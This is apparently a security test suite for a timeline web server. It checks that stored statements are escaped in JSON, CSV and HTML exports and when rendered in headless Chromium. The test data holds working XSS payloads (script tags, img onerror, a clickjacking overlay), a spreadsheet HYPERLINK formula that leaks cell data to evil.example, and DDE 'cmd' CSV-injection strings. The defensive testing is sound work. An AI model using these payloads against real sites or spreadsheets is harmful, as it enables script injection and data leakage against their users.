import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type BrowserContext } from 'playwright-core';
import { escapeHtml } from '#read-model';
import { RECORD, statementInput } from '../support/api.js';
import { ServerProcess } from '../support/server-process.js';

const OVERLAY =
  '<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:red">OWNED</a>';
const SCRIPT = '<script>window.__pwned = "script"</script>';
const IMG = '"><img src=x onerror="window.__pwned = \'img\'">';
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';

/** Statements about TR whose every text field a browser or spreadsheet reads holds something hostile. */
const HOSTILE = [
  statementInput({
    occurredOn: '2020-01-01',
    speaker: { name: OVERLAY, role: SCRIPT, organization: IMG, country: 'CN' },
    text: `</script><script>window.__pwned = "text"</script><!-- ${IMG}`,
    sources: [{ url: 'https://example.org/a', outlet: IMG, via: SCRIPT }],
  }),
  statementInput({ occurredOn: '2020-01-02', speaker: { name: SCRIPT, country: 'CN' } }),
  statementInput({ occurredOn: '2020-01-03', speaker: { name: IMG, country: 'CN' } }),
  statementInput({
    occurredOn: '2020-01-04',
    speaker: { name: FORMULA, role: '+1+1', organization: '@SUM(1+1)*cmd|" /C calc"!A0' },
    text: '-2+3+cmd|" /C calc"!A0',
    sources: [{ url: 'https://example.org/b', outlet: '=1+1' }],
  }),
];

/** RFC 4180 records of a CSV text. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('stored markup and formulas are encoded for every place a browser or spreadsheet reads', () => {
  let server: ServerProcess;
  let dataDir: string;

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'communique-encoding-'));
    server = await ServerProcess.start({ COMMUNIQUE_DATA_DIR: dataDir, COMMUNIQUE_LOG: 'silent' });
    for (const input of HOSTILE) {
      const recorded = await server.gql(RECORD, { input });
      expect(recorded.errors).toBeUndefined();
    }
  });
  afterAll(async () => {
    await server?.stop();
    rmSync(dataDir, { recursive: true, force: true });
  });

  it('TimelineJS JSON: every rendered field holds the stored text escaped, never as markup', async () => {
    const response = await fetch(`${server.url}/exports/timeline.timelinejs.json?country=TR`);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    const { events } = (await response.json()) as {
      events: { text: { headline: string; text: string }; group?: string }[];
    };
    expect(events).toHaveLength(HOSTILE.length);
    for (const event of events) {
      for (const html of [event.text.headline, event.group ?? '', event.text.text]) {
        const tags = [...html.matchAll(/<\/?([a-z]+)/gi)].map((m) => m[1]?.toLowerCase());
        expect(tags.filter((tag) => !['p', 'em', 'a', 'blockquote', 'strong'].includes(tag ?? ''))).toEqual(
          [],
        );
        expect(html).not.toMatch(/<a href="https:\/\/evil/);
        expect(html).not.toMatch(/<img/i);
      }
    }
    // the speaker's name is in the slide's detail since issue 13 (headlines name countries), escaped
    expect(events[0]?.text.text).toContain('&lt;a href=&quot;https://evil.example/&quot;');
    expect(events[0]?.text.headline).not.toContain('<');
  });

  it('CSV: no cell a spreadsheet reads starts a formula, and the stored text is still there', async () => {
    const text = await (await fetch(`${server.url}/exports/timeline.csv?country=TR`)).text();
    const rows = parseCsv(text);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    const cells = rows.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const formulaRow = rows.find((row) => row.some((cell) => cell.includes('HYPERLINK')));
    expect(formulaRow?.[9]).toBe(`'${escapeHtml(FORMULA)} → Türkiye: makes a statement`);
    // the headline of the template is HTML, like its text
    expect(cells.some((cell) => cell.includes(OVERLAY))).toBe(false);
  });

  it('the timeline page: its embedded data cannot end its script block, and parses to the export', async () => {
    const html = await (await fetch(`${server.url}/timeline?country=TR`)).text();
    const scripts = [...html.matchAll(/<script\b[^>]*>/gi)].map((m) => m[0]);
    expect(scripts).toEqual([
      '<script type="application/json" id="timeline-data">',
      '<script src="/assets/timelinejs/js/timeline.js">',
      '<script src="/assets/timeline-page.js">',
    ]);
    const block = /<script type="application\/json" id="timeline-data">([\s\S]*?)<\/script>/.exec(html)?.[1];
    expect(block).toBeDefined();
    expect(block).not.toMatch(/[<>]/);
    const exported: unknown = await (
      await fetch(`${server.url}/exports/timeline.timelinejs.json?country=TR`)
    ).json();
    expect(JSON.parse(block ?? '')).toEqual(exported);
    expect(html).not.toContain('<img');
  });

  it('error answers echo no input unescaped: HTML pages escape it, JSON errors are never sniffed', async () => {
    const hostile = encodeURIComponent('<script>alert(1)</script>');
    const page = await fetch(`${server.url}/timeline?country=${hostile}`);
    expect(page.status).toBe(400);
    const pageText = await page.text();
    expect(pageText).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(pageText).not.toContain('<script>alert');
    for (const url of [
      `/exports/timeline.csv?country=${hostile}`,
      `/exports/timeline.json?topic=${hostile}`,
      `/exports/timeline.json?country=TR&from=${hostile}`,
      `/no-such-page/${hostile}`,
    ]) {
      const response = await fetch(`${server.url}${url}`);
      expect([url, response.status >= 400 && response.status < 500]).toEqual([url, true]);
      expect(response.headers.get('content-type')).toMatch(/^application\/json/);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
  const itIfChromium = existsSync(CHROMIUM) ? it : it.skip;
  if (!existsSync(CHROMIUM)) console.log(`browser check skipped: no Chromium at ${CHROMIUM}`);

  itIfChromium('in headless Chromium the hostile markup shows as text and runs nothing', async () => {
    const profile = mkdtempSync(join(tmpdir(), 'communique-chromium-'));
    let browser: BrowserContext | undefined;
    try {
      browser = await chromium.launchPersistentContext(profile, {
        executablePath: CHROMIUM,
        headless: true,
        args: [
          '--headless',
          '--no-sandbox',
          '--disable-gpu',
          '--disable-background-networking',
          '--no-first-run',
        ],
      });
      const page = await browser.newPage();
      const requests: string[] = [];
      page.on('request', (request) => requests.push(request.url()));
      await page.goto(`${server.url}/timeline?country=TR`);
      await page.waitForSelector('.tl-slide .tl-headline', { timeout: 30000 });
      // go through every slide, so that each one's markup is built
      for (let i = 0; i < HOSTILE.length; i++) {
        await page.evaluate('window.timeline && window.timeline.goToNext()');
      }
      // (a string, evaluated in the page: this file is type-checked without the DOM library)
      const pwned: unknown = await page.evaluate('window.__pwned');
      const found = {
        pwned,
        overlays: await page.locator('a[href^="https://evil.example"]').count(),
        fixed: await page.locator('[style*="position:fixed"], [style*="position: fixed"]').count(),
        images: await page.locator('img[onerror]').count(),
        // the whole slide: speaker names are in its detail since issue 13 (headlines name countries)
        headlines: await page.$$eval('.tl-slide', (nodes) => nodes.map((n) => n.textContent ?? '')),
      };
      expect(found.pwned).toBeUndefined();
      expect(found.overlays).toBe(0);
      expect(found.fixed).toBe(0);
      expect(found.images).toBe(0);
      // the speaker names show as the text they are
      expect(found.headlines.some((h) => h.includes(OVERLAY))).toBe(true);
      expect(found.headlines.some((h) => h.includes(SCRIPT))).toBe(true);
      expect(found.headlines.some((h) => h.includes(IMG))).toBe(true);
      const origin = new URL(server.url).origin;
      expect(requests.filter((url) => !url.startsWith('data:') && new URL(url).origin !== origin)).toEqual(
        [],
      );
      await page.close();
    } finally {
      await browser?.close();
      rmSync(profile, { recursive: true, force: true });
    }
  });
});
